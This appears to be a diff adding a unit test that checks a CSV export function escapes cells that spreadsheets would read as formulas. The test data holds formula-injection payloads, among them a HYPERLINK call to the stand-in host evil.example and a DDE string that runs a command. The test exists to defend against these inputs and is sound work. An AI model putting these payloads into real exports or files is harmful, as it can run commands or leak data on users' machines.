@@ -19,6 +19,10 @@ describe("console formatting", () => {
 
   it("CSV quotes what needs it and keeps a cell from being read as a formula", () => {
     expect(toCsv(["a", "b"], [["x,y", 'say "hi"'], ["=1+1", "-0.5"]])).toBe('a,b\r\n"x,y","say ""hi"""\r\n\'=1+1,-0.5\r\n');
+    // A tenant's string that starts like a negative number is still a formula to a spreadsheet (audit: a model name
+    // from an MCP tool reached the Spend export this way); so is one after a tab.
+    expect(toCsv(["m"], [['-2+3+HYPERLINK("http://evil.example/?x","click")'], ["-1+cmd|' /C calc'!A0"], ["\t=1+1"], ["-12.5"], ["3e-7"]]))
+      .toBe('m\r\n"\'-2+3+HYPERLINK(""http://evil.example/?x"",""click"")"\r\n\'-1+cmd|\' /C calc\'!A0\r\n\'\t=1+1\r\n-12.5\r\n3e-7\r\n');
   });
 
   it("buckets cover the range, days from midnight UTC, so empty hours and days are drawn as zero", () => {
